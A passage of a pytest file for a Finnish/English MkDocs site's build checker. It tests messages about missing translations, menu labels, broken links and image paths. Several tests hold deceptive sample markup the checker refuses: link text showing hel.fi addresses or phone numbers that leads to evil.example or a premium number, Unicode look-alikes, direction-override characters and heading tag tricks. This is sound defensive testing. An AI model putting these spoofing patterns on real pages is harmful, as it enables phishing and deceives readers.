        f"docs/privacy.fi.md:{len(lines)}: <img src=\"../images/.x.svg\">: {left_out}",
    ]


def test_the_guides_question_and_caption_examples_build_as_they_show(tmp_path):
    """The <details> and <figure> examples of CONTRIBUTING (en, fi), pasted into a page: their
    Markdown is read, not shown as written (hunt 21b)."""
    root = copy_site(tmp_path / "copy")
    shutil.copy(ROOT / "docs/images/apple-touch-icon.png", root / "docs/images/map.png")
    shutil.copy(ROOT / "docs/images/apple-touch-icon.png", root / "docs/images/kartta.png")
    for guide, page in (("CONTRIBUTING.md", "cities.en.md"), ("CONTRIBUTING.fi.md", "cities.fi.md")):
        example = re.search(r"```html\n(<details markdown>.*?)```", (ROOT / guide).read_text(), re.S).group(1)
        (root / "docs" / page).write_text((root / "docs" / page).read_text() + "\n" + example)
    result, output = build(root)
    assert result.returncode == 0, output[-3000:]
    for page in ("cities/index.html", "en/cities/index.html"):
        doc = BeautifulSoup((root / "site" / page).read_text(), "html.parser")
        details = doc.select_one("article details")
        assert details.select_one("summary") and details.select_one('a[href="../declaration/"]'), details
        assert doc.select_one("article figure img") and doc.select_one("article figure figcaption")
        assert "](" not in doc.select_one("article").get_text()


@pytest.mark.parametrize("missing", ["privacy.en.md", "privacy.fi.md"])
def test_a_page_missing_in_one_language_stops_the_build_and_never_falls_back(tmp_path, missing):
    root = copy_site(tmp_path / "copy")
    (root / "docs" / missing).unlink()
    result, output = build(root)
    assert result.returncode != 0
    assert f"Every page needs a file in each language. Missing: docs/{missing}" in output
    assert not (root / "site/en/privacy/index.html").exists()


def test_a_page_whose_two_languages_have_the_same_text_stops_the_build(tmp_path):
    """Session 33b: the English page copied to privacy.fi.md, "until the translator gets to it",
    passed every check, and the Finnish site showed English marked as Finnish."""
    root = copy_site(tmp_path / "copy")
    english = (root / "docs" / "privacy.en.md").read_text("utf-8")
    # Hunt 33e: a comment added to the copy made it another text.
    (root / "docs" / "privacy.fi.md").write_text(english.replace("title: ", "title: Tietosuoja ", 1)
                                                 + "\n<!-- käännös tulossa -->\n", "utf-8")
    result, output = build(root)
    assert result.returncode != 0 and "Traceback" not in output
    assert ("docs/privacy.fi.md: the text is the same as docs/privacy.en.md's, or nearly: readers of each language would "
            "get the other's text, marked as their own") in output


NEW_PAGE = "---\ntitle: {title}\ndescription: A new page to try the menu with, with enough words for a description in search results.\n---\n\n# {title}\n\nText.\n"


def test_a_page_outside_the_menu_says_how_to_add_it(tmp_path):
    """MkDocs' own warning lists the files and says nothing of what to do (and a preview only
    notes the page: hooks/preview.py)."""
    root = copy_site(tmp_path / "copy")
    (root / "docs/uusi-sivu.fi.md").write_text(NEW_PAGE.format(title="Uusi sivu"))
    (root / "docs/uusi-sivu.en.md").write_text(NEW_PAGE.format(title="New page"))
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        "docs/uusi-sivu.fi.md: the page is in no menu: ask a maintainer to add a line such as '- Uusi sivu: "
        "uusi-sivu.md' under nav: in mkdocs.yml, where it belongs in the menu, and its label in English, such as "
        "'Uusi sivu: New page', under nav_translations (plugins: i18n: languages: en); a menu label is one or two "
        "short words, such as 'FAQ', so that the menu fits on one line (a page's title may be longer)"]
    preview, output = build(root, {"SITE_PREVIEW": "pr-1"})
    assert preview.returncode == 0, output
    # A page that a maintainer keeps out of the menu on purpose (MkDocs' not_in_nav).
    edit(root / "mkdocs.yml", "\nnav:\n", "\nnot_in_nav: |\n  /uusi-sivu.*.md\n\nnav:\n")
    result, output = build(root)
    assert result.returncode == 0, output


def test_a_menu_label_without_its_translation_says_where_to_add_it(tmp_path):
    root = copy_site(tmp_path / "copy")
    (root / "docs/uusi-sivu.fi.md").write_text(NEW_PAGE.format(title="Uusi sivu"))
    (root / "docs/uusi-sivu.en.md").write_text(NEW_PAGE.format(title="New page"))
    edit(root / "mkdocs.yml", "  - Julistus: declaration.md\n", "  - Julistus: declaration.md\n  - Uusi sivu: uusi-sivu.md\n")
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        "mkdocs.yml: nav: the menu label 'Uusi sivu' has no label in English, and the English menu would show it in "
        "Finnish: add a line such as 'Uusi sivu: …' under nav_translations (plugins: i18n: languages: en)"]
    edit(root / "mkdocs.yml", "            Julistus: The declaration\n",
         "            Julistus: The declaration\n            Uusi sivu: New page\n")
    result, output = build(root)
    assert result.returncode == 0, output



SITE_FILES = {"index.html", "themes/index.html", "en/themes/index.html", "images/logo.svg", "images/kartta.png"}


@pytest.mark.parametrize("page_url,markup,expected", [
    ("themes/", '<img src="images/logo.svg" alt="">',
     '<img src="images/logo.svg">: from this page\'s address (themes/) the path leads to no file of the site; in HTML '
     'a path is not adjusted as in Markdown: write src="../images/logo.svg", or the image in Markdown, '
     '![text](images/logo.svg)'),
    ("en/themes/", '<p><img alt="" srcset="images/kartta.png 2x" src="../../images/logo.svg"></p>',
     '<img srcset="images/kartta.png">: from this page\'s address (en/themes/) the path leads to no file of the site; '
     'in HTML a path is not adjusted as in Markdown: write srcset="../../images/kartta.png", or the image in Markdown, '
     '![text](images/kartta.png)'),
    # A Finnish page's path copied to the English page, one level deeper.
    ("en/themes/", '<img src="../images/logo.svg" alt="">',
     '<img src="../images/logo.svg">: from this page\'s address (en/themes/) the path leads to no file of the site; in '
     'HTML a path is not adjusted as in Markdown: write src="../../images/logo.svg", or the image in Markdown, '
     '![text](images/logo.svg)'),
    # Paths that climb above the site's own address, or start from the server's root, work
    # where the site is the whole server, and break in a preview (/_previews/pr-1/).
    ("themes/", '<img src="../../images/logo.svg" alt="">',
     '<img src="../../images/logo.svg">: the path climbs above the site\'s own address, so it breaks where the site is '
     'published under a folder, as a preview is: write src="../images/logo.svg"'),
    ("", '<img src="../images/logo.svg" alt="">',
     '<img src="../images/logo.svg">: the path climbs above the site\'s own address, so it breaks where the site is '
     'published under a folder, as a preview is: write src="images/logo.svg"'),
    ("themes/", '<img src="/images/logo.svg" alt="">',
     '<img src="/images/logo.svg">: the path climbs above the site\'s own address, so it breaks where the site is '
     'published under a folder, as a preview is: write src="../images/logo.svg"'),
    ("themes/", '<video src="images/puuttuu.mp4" controls></video>',
     '<video src="images/puuttuu.mp4">: no file under docs/ has this name, written in HTML from the page\'s address '
     "or in Markdown from the page's file: check the file's name, and after renaming a file, change the pages that "
     "show it"),
])
def test_a_path_in_html_that_loads_no_file_is_named_with_what_to_write(page_url, markup, expected):
    assert [finding.message for finding in unloaded_paths(markup, page_url, SITE_FILES)] == [expected]


@pytest.mark.parametrize("page_url,markup", [
    ("themes/", '<img src="../images/logo.svg" alt=""> <img src="../images/kartta.png?v=2#x" alt="">'),
    ("", '<img src="images/logo.svg" alt=""> <img src="./images/kartta.png" alt="">'),
    ("en/themes/", '<img src="../../images/logo.svg" alt=""> <a href="images/none.png">a link waits for a click</a>'),
    ("themes/", '<img src="https://example.org/x.png" alt=""> <img src="data:," alt="">'),  # refused elsewhere
])
def test_paths_that_load_a_file_of_the_site_are_fine(page_url, markup):
    assert unloaded_paths(markup, page_url, SITE_FILES) == []


PAGE_FILES = frozenset({"index.html", "declaration/index.html", "themes/index.html", "en/index.html",
                        "en/declaration/index.html", "en/themes/index.html", "images/logo.svg"})
MARKDOWN_ONLY = "in HTML a link to a page's file is not turned into its address as in Markdown: write "


@pytest.mark.parametrize("page_url,markup,expected", [
    # MkDocs turns [text](declaration.md) into the page's address, and leaves HTML as it is:
    # the link was published broken (hunt 15b).
    ("themes/", '<a href="declaration.md">x</a>',
     f'<a href="declaration.md">: {MARKDOWN_ONLY}href="../declaration/", or the link in Markdown, [text](declaration.md)'),
    ("en/themes/", '<a class="md-button" href="declaration.md#aims">x</a>',
     f'<a href="declaration.md#aims">: {MARKDOWN_ONLY}href="../declaration/#aims", or the link in Markdown, '
     "[text](declaration.md#aims)"),
    ("themes/", '<a href="index.md">x</a>', f'<a href="index.md">: {MARKDOWN_ONLY}href="../", or the link in Markdown, [text](index.md)'),
    ("themes/", '<a href="../julistus/">x</a>',
     '<a href="../julistus/">: from this page\'s address the link leads to no page of the site; check it, or write '
     "the link in Markdown, [text](name.md), which the build checks"),
    # MkDocs leaves the file out and only notes the link (hunt 20b).
    ("themes/", '<a href="../images/%2Ex%0A::notice">x</a>',
     "<a href=\"../images/%2Ex%0A::notice\">: the site does not publish this file (MkDocs leaves out names starting "
     "with '.' and the folder templates/); move or rename the file, and change the link"),
])
def test_a_link_in_html_to_no_page_is_named_with_what_to_write(page_url, markup, expected):
    assert [finding.message for finding in broken_page_links(markup, page_url, PAGE_FILES)] == [expected]


NEWS_FILES = PAGE_FILES | {"news/item/index.html", "en/news/item/index.html"}


@pytest.mark.parametrize("page_url,prefix,written,expected", [
    # Session 32b: a page in a folder, copied from one at the top, keeps its links; MkDocs
    # leaves each as written, and the message spoke of HTML and gave the same link back.
    ("news/item/", "", "[Julistus](declaration.md)", "[…](declaration.md): a link in Markdown is read from the folder of "
     "the page's own file, docs/news/, where no page has this name: write [text](../declaration.md)"),
    ("en/news/item/", "en/", "[Themes](themes.md#aims)", "[…](themes.md#aims): a link in Markdown is read from the "
     "folder of the page's own file, docs/news/, where no page has this name: write [text](../themes.md#aims)"),
    ("en/news/item/", "en/", "[See][d]\n\n[d]: declaration.md", "[…](declaration.md): a link in Markdown is read from "
     "the folder of the page's own file, docs/news/, where no page has this name: write [text](../declaration.md)"),
    # A link to the other language's file, left in a translation.
    ("en/news/item/", "en/", "[Declaration](declaration.fi.md)", "[…](declaration.fi.md): name the page's file without "
     "its language (.fi): the site links each language's page to the page of the same language; write "
     "[text](../declaration.md)"),
    ("news/item/", "", "[Julistus](julistus.md)", "[…](julistus.md): no page of the site has this name: check it (each "
     "page is a file in docs/, named in a link without its language: [text](events.md))"),
])
def test_a_link_in_markdown_to_no_page_is_named_with_the_markdown_to_write(page_url, prefix, written, expected):
    href = re.search(r"\]\(([^)]+)\)|\]: (\S+)", written)
    href = href.group(1) or href.group(2)
    source = PageSource(f"---\ntitle: T\n---\n{written}\n", "news", prefix, ("fi", "en"))
    findings = broken_page_links(f'<p><a href="{href}">x</a></p>', page_url, NEWS_FILES, source=source)
    assert [finding.message for finding in findings] == [expected]


def test_an_image_in_markdown_that_loads_no_file_is_named_with_the_markdown_to_write():
    source = PageSource("![Kaupunkien logo](images/logo.svg)\n", "news", "en/")
    findings = unloaded_paths('<img src="images/logo.svg" alt="Kaupunkien logo">', "en/news/item/", NEWS_FILES, source=source)
    assert [finding.message for finding in findings] == [
        "![…](images/logo.svg): an image's path in Markdown is read from the folder of the page's own file, docs/news/, "
        "where no file has this name: write ![text](../images/logo.svg)"]


def test_links_in_markdown_from_a_page_in_a_folder_stop_the_build_with_the_markdown_to_write(tmp_path):
    root = copy_site(tmp_path / "copy")
    (root / "docs/uutiset").mkdir()
    for locale, title in (("fi", "Uutinen"), ("en", "News")):
        (root / f"docs/uutiset/testi.{locale}.md").write_text(
            f"---\ntitle: {title}\ndescription: {'A page in a folder, which links to the other pages of the site. ' * 2}\n"
            "---\n# T\n\nLue [julistus](declaration.md).\n\n![Kaupunkien logo](images/logo.svg)\n", "utf-8")
    edit(root / "mkdocs.yml", "  - Tietosuoja: privacy.md\n", "  - Tietosuoja: privacy.md\n  - Uutinen: uutiset/testi.md\n")
    edit(root / "mkdocs.yml", "            Julistus: The declaration\n",
         "            Julistus: The declaration\n            Uutinen: News\n")
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        f"docs/uutiset/testi.{locale}.md:{line}: {message}" for locale in ("en", "fi") for line, message in (
            (7, "[…](declaration.md): a link in Markdown is read from the folder of the page's own file, docs/uutiset/, "
                "where no page has this name: write [text](../declaration.md)"),
            (9, "![…](images/logo.svg): an image's path in Markdown is read from the folder of the page's own file, "
                "docs/uutiset/, where no file has this name: write ![text](../images/logo.svg)"))]
    for locale in ("fi", "en"):
        edit(root / f"docs/uutiset/testi.{locale}.md", "](declaration.md)", "](../declaration.md)")
        edit(root / f"docs/uutiset/testi.{locale}.md", "](images/", "](../images/")
    result, output = build(root)
    assert result.returncode == 0, output


@pytest.mark.parametrize("page_url", ["", "en/"])
def test_a_link_in_html_from_a_home_page_to_its_own_file_is_named_with_what_to_write(page_url):
    # A home page's file (index.fi.md, index.en.md) stands for its own folder, not its parent's:
    # the advice was the generic one, with nothing to write.
    findings = broken_page_links('<a href="index.md">x</a>', page_url, PAGE_FILES, index_page=True)
    assert [finding.message for finding in findings] == [
        f'<a href="index.md">: {MARKDOWN_ONLY}href="./", or the link in Markdown, [text](index.md)']


CLIMBS_OUT_OF_THE_SITE = ("the path climbs above the site's own address, so it leads out of the site where the site is "
                          "published under a folder (as a preview is): link to a page by its file, [text](name.md), "
                          "which the build checks")


@pytest.mark.parametrize("page_url,href", [
    # Hunt 34a: on a custom domain the link led from a reviewed page into a preview, whose pages
    # change without review; on github.io, to another repository's site on the same host.
    ("privacy/", "../../../../../_previews/pr-9/privacy/"), ("privacy/", "/_previews/pr-9/"),
    ("", "../other-repo/"), ("en/privacy/", "/"), ("privacy/", "../../images/logo.svg"),
])
def test_a_link_in_html_that_climbs_out_of_the_site_is_refused(page_url, href):
    findings = broken_page_links(f'<p>Lisää <a href="{href}">toinen linkki</a>.</p>', page_url, PAGE_FILES)
    assert [finding.message for finding in findings] == [f'<a href="{href}">: {CLIMBS_OUT_OF_THE_SITE}']
    source = PageSource(text=f"Lisää [toinen linkki]({href}).\n", locales=("fi", "en"))
    findings = broken_page_links(f'<p>Lisää <a href="{href}">toinen linkki</a>.</p>', page_url, PAGE_FILES, source=source)
    assert [finding.message for finding in findings] == [f'[…]({href}): {CLIMBS_OUT_OF_THE_SITE}']


def test_links_in_html_to_pages_files_and_other_sites_are_fine():
    markup = ('<a href="../declaration/">a</a> <a href="../declaration/#aims">b</a> <a href="../">c</a> '
              '<a href="#top">d</a> <a href="mailto:x@example.org">e</a> <a href="https://example.org/">f</a> '
              '<a href="../events.ics">g</a> <a href="../images/logo.svg">h</a>')
    assert broken_page_links(markup, "themes/", PAGE_FILES) == []


@pytest.mark.parametrize("written,href,expected", [
    ("[Helsingin kaupunki](www.hel.fi/fi)", "www.hel.fi/fi",
     "[…](www.hel.fi/fi): an address without https:// is read as a file of this site, and leads nowhere; write "
     "[text](https://www.hel.fi/fi)"),
    ('<a href="hel.fi/fi/">x</a>', "hel.fi/fi/",
     '<a href="hel.fi/fi/">: an address without https:// is read as a file of this site, and leads nowhere; write '
     'href="https://hel.fi/fi/"'),
    # Session 33d: the scheme's colon left out.
    ("[Palaute](https//www.hel.fi/palaute)", "https//www.hel.fi/palaute",
     "[…](https//www.hel.fi/palaute): an address without https:// is read as a file of this site, and leads nowhere; "
     "write [text](https://www.hel.fi/palaute)"),
])
def test_an_address_without_https_is_told_with_the_address_to_write(written, href, expected):
    """Session 33b: MkDocs said only "an unrecognized relative link", with no line."""
    source = PageSource(f"---\ntitle: T\n---\n{written}\n", "", "", ("fi", "en"))
    findings = broken_page_links(f'<p><a href="{href}">x</a></p>', "cities/", PAGE_FILES, source=source)
    assert [finding.message for finding in findings] == [expected]


@pytest.mark.parametrize("page_url,prefix,href", [("cities/", "", "../en/events/"), ("en/cities/", "en/", "../../events/")])
def test_a_link_to_the_other_languages_page_is_told_as_such(page_url, prefix, href):
    """Sessions 33b and 33f: the advice was [text](events.md), which leads to the page of the
    page's own language."""
    source = PageSource(f"---\ntitle: T\n---\n[toinen kieli]({href})\n", "", prefix, ("fi", "en"))
    findings = broken_page_links(f'<p><a href="{href}">x</a></p>', page_url, frozenset(), source=source)
    assert [finding.message for finding in findings] == [
        f"[…]({href}): a link to a page of another language: the language switcher at the top of every page leads "
        "there; link to a page of this page's language, [text](events.md), or name the other language's page in words"]


@pytest.mark.parametrize("href", ["kartta.png", "images/logo.svg", "raportti.pdf", "../events.ics", "declaration.md"])
def test_a_file_name_is_not_taken_for_an_address_without_https(href):
    assert not any("without https://" in f.message for f in broken_page_links(f'<a href="{href}">x</a>', "cities/",
                                                                              PAGE_FILES))


def test_a_link_to_no_place_on_the_page_names_the_places_it_has():
    found = unknown_anchor_links('<h2 id="london">Lontoo</h2><p><a href="#lontoo">x</a> <a href="#london">y</a></p>')
    assert [anchor for anchor, _ in found] == ["lontoo"]
    findings = [finding for _, finding in found]
    assert [finding.message for finding in findings] == [
        "a link to #lontoo: the page has no heading or other part with this id; did you mean london? (a heading's id "
        "is the one written after it, {#…}, or made from its words)"]
    text = GOOD + "\nKatso [Lontoo](#lontoo).\n"
    assert [problem.line for problem in locate(text, findings, "f.md")] == [8]


def test_an_id_inside_a_comment_is_no_element_of_the_page():
    """Hunt 33e: `<!-- <span id="sources"> -->` let a link be labelled by the site's list of
    sources, and a link to a place that is not there pass."""
    html = '<!-- <span id="sources"></span> --><p><a href="#x" aria-labelledby="sources">Helsingin sivuilla</a></p>'
    assert list(element_ids(html)) == []
    assert [finding.message.split(":")[0] for finding in foreign_id_references(html)] == [
        '<a aria-labelledby="sources">']


def test_a_link_to_a_listings_own_place_is_fine_on_its_page_and_from_others(tmp_path):
    """Hunt 33c: "[…](#past-events)" on the Events page was refused, by MkDocs too, which knows
    only the ids of a page's Markdown; the listings add theirs after it."""
    root = copy_site(tmp_path / "copy")
    edit(root / "docs" / "events.fi.md", "<!-- data:events -->",
         "[Menneet](#past-events), [tapaaminen](#event-mayors-meet-london-2019), [lähteet](#sources)[[cite:"
         "kuntalehti-2019-02]].\n\n<!-- data:events -->")
    cities = root / "docs" / "cities.en.md"
    cities.write_text(cities.read_text() + "\n[The meeting](events.md#event-mayors-meet-london-2019).\n")
    result, output = build(root)
    assert result.returncode == 0, output
    # Session 33d: a link to no place on another page was told by MkDocs alone, without a line.
    cities.write_text(cities.read_text() + "\n[Past](events.md#menneet).\n")
    result, output = build(root)
    assert result.returncode != 0
    assert any(line.startswith("docs/cities.en.md:") and "a link to #menneet on the page en/events/: that page has no "
               "heading or other part with this id; link to one of its ids: calendar, event-" in line
               for line in problem_lines(output)), output
    cities.write_text(cities.read_text().replace("\n[Past](events.md#menneet).\n", ""))
    edit(root / "docs" / "events.fi.md", "(#past-events)", "(#menneet)")
    result, output = build(root)
    assert result.returncode != 0
    assert any(line.startswith("docs/events.fi.md:") and "a link to #menneet: the page has no heading" in line
               for line in problem_lines(output)), output


def test_an_image_in_html_with_a_path_markdown_would_adjust_stops_the_build(tmp_path):
    root = copy_site(tmp_path / "copy")
    page = root / "docs/themes.fi.md"
    page.write_text(page.read_text() + '\n<figure markdown><img src="images/logo.svg" alt="Kaupunkien logo"></figure>\n')
    line = len(page.read_text().splitlines())
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        f'docs/themes.fi.md:{line}: <img src="images/logo.svg">: from this page\'s address (themes/) the path leads to '
        'no file of the site; in HTML a path is not adjusted as in Markdown: write src="../images/logo.svg", or the '
        'image in Markdown, ![text](images/logo.svg)']
    edit(page, 'src="images/logo.svg"', 'src="../images/logo.svg"')
    result, output = build(root)
    assert result.returncode == 0, output


@pytest.mark.parametrize("heading", [
    # Python-Markdown's strip_tags does not know a "/" between a tag's parts, so the tags stayed
    # in the heading's title, which the table of contents prints as it is: a link to another
    # site in the site's own contents list, and an open <table> that took the rest of the page
    # into the hidden menu (hunt 9, shown in Chromium).
    '<h2>More information <a/href="https://evil.example/everything">here</a></h2>',
    '<h2>More <a/href="https://evil.example/">x<table/class="plain"><tr><td>.</td></tr></table></a></h2>',
])
def test_markup_that_would_reach_the_table_of_contents_stops_the_build(tmp_path, heading):
    root = copy_site(tmp_path / "copy")
    page = root / "docs/privacy.en.md"
    page.write_text(page.read_text() + f'\n<div markdown="1">\n{heading}\n</div>\n')
    line = len(page.read_text().splitlines()) - 1
    result, output = build(root)
    assert result.returncode != 0
    assert (f"docs/privacy.en.md:{line}: a heading holds HTML that the table of contents would show as HTML "
            "(a tag written with \"/\" between its parts, such as <a/href=…>): write a space between a tag's parts, "
            "and keep links out of headings") in problem_lines(output), output


@pytest.mark.parametrize("markdown,written", [
    ('## Contact the city { #contact data-toc-label="Report abuse: call &#x202E;0000 555 020&#x202C;" }', "&#x202E;"),
    ("## &#x202E;evil", "&#x202E;"),
    ("Call x &#8238;evil&#x202c; y today.", "&#8238;"),
    ('<span title="&#X202e;0000 555 020">the number</span>', "&#X202e;"),
    ("<code>&#x202E;0000</code>", "&#x202E;"),  # HTML's code element shows the character, not the reference
    ("A browser reads &#x202E 0000 without its semicolon too.", "&#x202E"),
])
def test_a_direction_control_written_as_a_character_reference_stops_the_build(tmp_path, markdown, written):
    """The source check read only the characters as written: &#x202E; showed the table of
    contents' "call 0000 555 020" as "call 020 555 0000", and put U+202E into the search index
    (hunt 17a)."""
    returncode, problems, line = built_with(tmp_path, "declaration.en.md", markdown)
    assert returncode != 0
    assert problems == [
        f"docs/declaration.en.md:{line}: the page holds U+202E, written {written}, a direction control that can show "
        "the text in another order than it is written; remove it"]


@pytest.mark.parametrize("written,code", [("\u200f", "200F"), ("&#x200F;", "200F"), ("&rlm;", "200F"), ("&#8206;", "200E"),
                                          ("&#x61c;", "061C")])
def test_a_direction_mark_is_named_like_a_direction_control(written, code):
    """A right-to-left mark in a data-toc-label showed "call 0000 555 020" as "call 020 555
    0000" in the table of contents (hunt 18a); the site's two languages never need one."""
    text = GOOD + f'\n## Contact {{ data-toc-label="call {written}0000 555 020" }}\n'
    [problem] = direction_control_problems(text, "f.md")
    assert problem.line == 8 and f"holds U+{code}" in problem.message


def test_a_direction_control_reference_is_named_in_code_too():
    """Markdown shows a reference in code as written, but a reading of what is code that
    differs from Markdown's let one through: an unclosed ~~~ hid the rest of the page, and
    escaped backticks are no code span (hunt 18a)."""
    text = GOOD + ("\nIn Markdown `&#x202E;` shows as written.\n\n~~~\n\n\\`&#8238;\\` is not code.\n\n"
                   "A &#x202F; is a space.\n")
    assert [problem.line for problem in direction_control_problems(text, "f.md")] == [8, 12]


@pytest.mark.parametrize("heading", ["&#xE0100;", "\U000e0100\U000e0101", "&#x1D173;", "\u3164", "&#x200B;&nbsp;",
                                     # unassigned, and drawn as nothing (hunt 24a)
                                     "\u2065", "&#xFFF0;\ufff8", "\U000e0fff"])
def test_headings_of_characters_that_show_nothing_are_named(heading):
    """Unicode keeps adding characters that show nothing; a list missed the variation selectors
    supplement and the musical format controls, and their headings made empty entries in the
    table of contents (hunt 18a)."""
    from types import SimpleNamespace

    toc = [SimpleNamespace(title=heading, children=[])]
    assert [finding.message for finding in toc_markup_findings(toc)] == [
        "a heading has no visible text, and would be an empty entry in the table of contents; write its text, or "
        "remove it"]
    assert toc_markup_findings([SimpleNamespace(title="Yhteystiedot\ufe0f", children=[])]) == []


def test_a_hidden_heading_stops_the_build(tmp_path):
    returncode, problems, line = built_with(tmp_path, "privacy.en.md", "## Secret { hidden }")
    assert returncode != 0
    assert problems == [f"docs/privacy.en.md:{line}: <h2 hidden>: the table of contents would list a heading the page "
                        "does not show; remove hidden, or the heading"]


@pytest.mark.parametrize("wrapper,shown_as", [
    ('<div aria-hidden="true" markdown>\n\n{}\n\n</div>', '<div aria-hidden="true">'),
    ("<details markdown>\n<summary>Lisää</summary>\n\n{}\n\n</details>", "<details>"),
])
def test_a_heading_inside_an_element_that_hides_it_stops_the_build(tmp_path, wrapper, shown_as):
    """A hidden <div> around the page's title left it without one, the skip link without a
    target and the table of contents with an entry that led nowhere (hunt 20a)."""
    returncode, problems, end = built_with(tmp_path, "privacy.en.md", wrapper.format("## Secret"))
    assert returncode != 0
    line = end - len(wrapper.splitlines()) + 1
    assert problems == [f"docs/privacy.en.md:{line}: the heading 'Secret' (h2) is inside {shown_as}, which hides it "
                        "from readers, but the table of contents would list it: put the heading before that element "
                        "(a <details> takes its title in <summary>), or leave the heading out"]


def test_link_text_that_reads_as_another_address_stops_the_build(tmp_path):
    """A page's links get no mark of an outside link, so [https://hel.fi/palaute] leading to
    another site read as the city's own feedback page (hunt 20a)."""
    links = ("[Palaute](https://evil.example/palaute)\n\n[https://hel.fi/palaute](https://evil.example/palaute)\n\n"
             "[palaute@hel.fi](mailto:phish@evil.example)\n\n"
             '<a href="https://evil.example/x">https://www.hel.fi/</a>\n\n'
             "[+358 9 310 1641](tel:+358600123456)\n\n"
             "[www.hel.fi](https://www.hel.fi/fi/) [palaute@hel.fi](mailto:palaute@hel.fi) "
             "[hel.fi/palaute](https://palvelut.hel.fi/palaute) [events.ics](events.md)")
    returncode, problems, end = built_with(tmp_path, "privacy.en.md", links)
    assert returncode != 0
    first = end - 8  # the second link to the same address, not the first (hunt 21b)
    assert problems == [
        *(f"docs/privacy.en.md:{first + line}: the link's text '{text}' reads as an address, but the link leads to "
          f"'{href}': make the text the address the link leads to, or words such as the page's name (a file's or "
          "program's name that reads as one, README.md#asennus, goes in words or with spaces: README.md, section "
          "Asennus)"
          for line, text, href in ((0, "https://hel.fi/palaute", "https://evil.example/palaute"),
                                   (2, "palaute@hel.fi", "mailto:phish@evil.example"),
                                   (4, "https://www.hel.fi/", "https://evil.example/x"))),
        f"docs/privacy.en.md:{first + 6}: the link's text '+358 9 310 1641' shows a telephone number, but the link "
        "calls 'tel:+358600123456': make the text the number the link calls, or words such as the name of the service",
    ]


@pytest.mark.parametrize("link", [
    '<a href="https://evil.example/">https://hel.fi/palaute ›</a>',
    '<a href="https://hel.fi.evil.example/">https://hel.fi<span hidden>.evil.example</span></a>',
    '<a href="https://evil.example/">https://hel.fi/palaute<rp> (x y)</rp></a>',
    '<a href="https://evil.example/"><img src="../images/logo.svg" alt="https://hel.fi/palaute"></a>',
    '<a href="https://evil.example/">hel\uff0efi/palaute</a>',
    '<a href="mailto:palaute@hel.fi?bcc=phish@evil.example">palaute@hel.fi</a>',
    # Hunt 24a: characters a browser draws as nothing, assigned or not; a Lisu letter drawn as
    # a full stop; a "\" that a browser reads as "/" where urlsplit takes the host after "@";
    # the address drawn above a letter by <ruby>.
    *(f'<a href="https://evil.example/">https://hel{char}.fi/palaute</a>'
      for char in ("\u200b", "\u00ad", "\u2060", "\ufeff", "\u034f", "\U000e0041", "\ufe0f", "\u2065", "\ufff0")),
    '<a href="https://evil.example/">www\ufeff.hel.fi</a>',
    '<a href="https://evil.example/">https://hel\ua4f8fi/palaute</a>',
    '<a href="https://evil.example\\@hel.fi/palaute">https://hel.fi/palaute</a>',
    '<a href="https://evil.example/"><ruby>\u00e9<rt>https://hel.fi/palaute</rt></ruby></a>',
    # Hunt 25a: slashes, full stops and colons from Unicode's confusables, which NFKC keeps;
    # a telephone number that calls another; a card whose heading link covers an address.
    *(f'<a href="https://evil.example/">{text}</a>' for text in (
        "https:\u2215\u2215hel.fi\u2215palaute", "https:\u2044\u2044hel.fi\u2044palaute", "hel.fi\u2215palaute",
        "www\ua4f8hel.fi", "https\ua789//hel.fi/palaute")),
    '<a href="mailto:phish@evil.example">palaute@hel\ua4f8fi</a>',
    '<a href="tel:+358600123456">+358 9 310 1641</a>',
    '</p><div class="site-card"><h3><a href="https://evil.example/">Palaute</a></h3><p>https://hel\u200b.fi/palaute',
    # Hunt 26a: what a screen reader announces or a tooltip shows; text of an <a> without href
    # under a card's cover; middle dots; a number written for its country that is only the end
    # of the one called, or with Unicode's hyphens.
    '<a href="https://evil.example/" aria-label="https://hel.fi/palaute">Palaute</a>',
    '<a href="https://evil.example/" title="https://hel.fi/palaute">Palaute</a>',
    '<a href="https://evil.example/">Palaute<span class="site-visually-hidden"> https://hel.fi/palaute</span></a>',
    '<span id="osoite">https://hel.fi/palaute</span> <a href="https://evil.example/" aria-labelledby="osoite">P</a>',
    '</p><div class="site-card"><h3> <a href="https://evil.example/">Palaute</a> </h3><p><a>https://hel.fi/palaute</a>',
    '<a href="https://evil.example/">hel\u00b7fi/palaute</a>',
    # Hunt 28a: a top-level domain the Public Suffix List does not know, in look-alike letters;
    # hunt 29a: a combining mark that NFKC leaves alone, drawn on an i as its dot.
    *(f'<a href="https://evil.example/">{text}</a>' for text in (
        "hel.f\u0456/palaute", "paypal.\u0441\u043e\u043c/x", "hel.fi\u0307/palaute", "hel\u0332.fi/palaute")),
    '<a href="tel:+35860093101641">09 310 1641</a>',
    '<a href="tel:+358600123456">+358\u20119\u2011310\u20111641</a>',
    # Hunt 28b's numbers as people write them, calling another.
    '<a href="tel:+358600123456">klo 9\u201316 09 310 1641</a>',
    '<a href="tel:+358600123456">0600 123 456 tai 09 310 1641</a>',
    '<a href="tel:+358600123456">\u0660\u0669 \u0663\u0661\u0660 \u0661\u0666\u0664\u0661</a>',
])
def test_an_address_shown_in_a_link_is_read_as_a_reader_reads_it(link):
    """Hunt 21a: words after the address, text that an element hides, an image's alt text, a
    full-width dot and a second recipient each got past the check of the link's text."""
    from _tree import fence, tree_problems
    page = "<html><body>{}<footer class='md-footer'></footer></body></html>"
    assert len(tree_problems(page.format(fence(f"<p>{link}</p>"))).misleading_links) == 1


def test_links_that_show_their_own_address_are_fine():
    from _tree import fence, tree_problems
    page = "<html><body>{}<footer class='md-footer'></footer></body></html>"
    links = ('<a href="https://www.hel.fi/fi/">Lue lisää: www.hel.fi.</a> '
             '<a href="mailto:palaute@hel.fi?subject=Julistus">palaute@hel.fi</a> '
             '<a href="https://palvelut.hel.fi/palaute">hel.fi/palaute</a> <a href="events.md">events.ics</a> '
             '<a href="tel:+35893101641">09 310 1641</a> <a href="tel:+442079834000">+44 20 7983 4000</a> '
             '<a href="https://example.org/">1\u20442 hintaan klo 10\u223630</a> '
             # Hunt 28b: telephone numbers as people write them, with what they say about them.
             '<a href="tel:+442079834000">+44 (0)20 7983 4000 (9am\u20135pm)</a> '
             '<a href="tel:+35893101641">00358 9 310 1641</a> <a href="tel:+35893101641">09 310 1641 (24 h)</a> '
